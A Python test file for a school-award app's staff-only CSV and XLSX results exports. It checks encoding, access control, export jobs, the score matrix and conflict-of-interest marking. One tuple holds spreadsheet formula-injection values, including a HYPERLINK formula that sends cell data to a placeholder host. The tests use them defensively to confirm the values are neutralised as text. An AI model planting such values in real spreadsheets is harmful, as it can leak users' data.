"""The approved results as downloads: XLSX and CSV, for staff only, once a decision exists."""

import csv
import io
import zipfile
from datetime import UTC, datetime

import openpyxl
from sqlalchemy import select

from award_app.extensions import db
from award_app.jury.models import Conflict, ConflictKind, ConflictSource, ConflictStatus
from award_app.nominations.models import Entry
from award_app.scoring.models import ScoreSheet
from tests.helpers import login
from tests.nominations.factories import approve, council_round, staff

NAMES = ("Trường THCS Nguyễn Trãi", "Trường THCS Lê Văn Tám")


def client_for(app, user):
    client = app.test_client()
    client.set_cookie("lang", "vi")
    login(client, user)
    return client


def approved_round():
    round_, dossiers, secretariat, _, run = council_round(names=NAMES)
    approve(round_, run, staff("approver"))
    return round_, dossiers, secretariat


def test_the_results_download_as_csv_with_a_bom_and_vietnamese_text(app):
    round_, (first, second), secretariat = approved_round()
    response = client_for(app, secretariat).get(f"/exports/round/{round_.id}/results.csv")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="ket-qua-es-2026-1.csv"'
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    by_reference = {row[2]: row for row in rows[1:]}
    assert by_reference[first.reference][3] == "Trường THCS Nguyễn Trãi"
    assert by_reference[first.reference][4] == "Hà Nội" and by_reference[first.reference][7] == "Giải Nhất"
    assert by_reference[second.reference][0] == "Trung học cơ sở"


def test_the_results_download_as_an_xlsx_that_opens(app):
    round_, (first, second), _ = approved_round()
    response = client_for(app, staff("auditor")).get(f"/exports/round/{round_.id}/results.xlsx")
    assert response.status_code == 200 and response.headers["Content-Disposition"].startswith("attachment")
    rows = list(openpyxl.load_workbook(io.BytesIO(response.data)).active.iter_rows(values_only=True))
    assert len(rows) == 1 + 2
    by_reference = {row[2]: row for row in rows[1:]}
    assert by_reference[first.reference][1] == 1 and by_reference[first.reference][5] == 90.0
    assert by_reference[second.reference][3] == "Trường THCS Lê Văn Tám"


def test_there_is_nothing_to_download_before_approval_or_for_an_applicant(app):
    round_, (first, _), secretariat, _, run = council_round()
    client = client_for(app, secretariat)
    assert client.get(f"/exports/round/{round_.id}/results.csv").status_code == 404
    approve(round_, run, staff("approver"))
    assert client_for(app, first.applicant).get(f"/exports/round/{round_.id}/results.xlsx").status_code == 404
    assert client.get(f"/exports/round/{round_.id}/results.xlsx").status_code == 200


def test_a_large_export_is_prepared_as_a_job_in_the_language_of_who_asked(app):
    from tests.helpers import submit

    round_, (first, _second), secretariat = approved_round()
    secretariat.locale = "en"
    client = client_for(app, secretariat)
    response = submit(client, f"/exports/round/{round_.id}/results.xlsx/job", form_url=f"/ranking/round/{round_.id}")
    assert response.status_code == 302 and "/jobs/" in response.location
    assert "Results of the round (XLSX)" in client.get(response.location).get_data(as_text=True)
    with client.get(response.location + "/result") as download:
        assert download.headers["Content-Disposition"].endswith("filename=ket-qua-es-2026-1.xlsx")
        workbook = openpyxl.load_workbook(io.BytesIO(download.data))
    assert workbook.sheetnames[0] == "Results"
    assert first.reference in [row[2] for row in workbook["Results"].iter_rows(values_only=True)]


def test_the_score_matrix_has_one_row_per_sheet_with_a_column_per_criterion(app):
    round_, (first, second), secretariat = approved_round()
    workbook = openpyxl.load_workbook(io.BytesIO(
        client_for(app, secretariat).get(f"/exports/round/{round_.id}/results.xlsx").data))
    criteria = [c for rubric in round_.rubrics for c in rubric.criteria]
    names = [f"{c.name_vi} (/{c.max_points})" for c in criteria]
    matrix = list(workbook.worksheets[2].iter_rows(values_only=True))
    assert list(matrix[0][2:2 + len(criteria)]) == names
    by_reference = {row[1]: row for row in matrix[1:]}
    assert len(matrix) == 1 + 2 and set(by_reference) == {first.reference, second.reference}
    assert by_reference[first.reference][2:] == (22, 24, 23, 21, 90, "có")
    assert by_reference[second.reference][2:] == (15, 18, 17, 19, 69, "có")
    means = list(workbook.worksheets[1].iter_rows(values_only=True))
    assert list(means[0][2:]) == names
    assert {row[0]: row[2:] for row in means[1:]}[first.reference] == (22.0, 24.0, 23.0, 21.0)


def test_a_sheet_a_confirmed_conflict_took_out_is_marked_in_the_score_matrix(app):
    round_, (first, second), secretariat = approved_round()
    sheet = db.session.scalar(select(ScoreSheet).join(Entry).where(Entry.nomination_id == second.id))
    db.session.add(Conflict(round_id=round_.id, nomination_id=second.id, juror_id=sheet.juror_id,
                            kind=ConflictKind.FAMILY, source=ConflictSource.DECLARED, status=ConflictStatus.CONFIRMED,
                            decided_by_id=secretariat.id, decided_at=datetime.now(UTC),
                            decision_reason="Con gái của giám khảo học tại trường."))
    db.session.commit()
    workbook = openpyxl.load_workbook(io.BytesIO(
        client_for(app, secretariat).get(f"/exports/round/{round_.id}/results.xlsx").data))
    counted = {row[1]: row[-1] for row in list(workbook.worksheets[2].iter_rows(values_only=True))[1:]}
    assert counted == {first.reference: "có", second.reference: "không: xung đột lợi ích"}


HOSTILE = ('=HYPERLINK("http://x/?"&A2,"y")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1")


def hostile_round():
    points = ((22, 24, 23, 21), (21, 20, 20, 20), (15, 18, 17, 19), (14, 14, 14, 14), (12, 12, 12, 12),
              (10, 10, 10, 10))
    round_, dossiers, secretariat, _, run = council_round(points, names=HOSTILE)
    approve(round_, run, staff("approver"))
    return round_, dossiers, secretariat


def _no_formula_in(body: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and all(b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
                              for name in sheets)


def test_a_hostile_name_reaches_the_csv_as_quoted_text(app):
    round_, dossiers, secretariat = hostile_round()
    body = client_for(app, secretariat).get(f"/exports/round/{round_.id}/results.csv").data
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    names = {row[2]: row[3] for row in rows[1:]}
    assert all(d.display_name[0] in "=+-@" for d in dossiers)  # the form strips a leading tab or CR
    assert {names[d.reference] for d in dossiers} == {"'" + d.display_name for d in dossiers}
    assert all(float(row[5]) > 0 for row in rows[1:])  # the scores stay plain numbers


def test_a_hostile_name_reaches_the_xlsx_as_text_not_a_formula_and_through_a_job(app):
    from tests.helpers import submit

    round_, dossiers, secretariat = hostile_round()
    client = client_for(app, secretariat)
    direct = client.get(f"/exports/round/{round_.id}/results.xlsx").data
    job = submit(client, f"/exports/round/{round_.id}/results.xlsx/job", form_url=f"/ranking/round/{round_.id}")
    with client.get(job.location + "/result") as download:
        from_job = download.data
    for body in (direct, from_job):
        _no_formula_in(body)
        sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
        cells = {row[2].value: row[3] for row in sheet.iter_rows(min_row=2)}
        assert {cells[d.reference].value for d in dossiers} == {d.display_name for d in dossiers}
        assert all(cells[d.reference].data_type == "s" for d in dossiers)
        assert all(row[5].data_type == "n" and row[5].value > 0 for row in sheet.iter_rows(min_row=2))
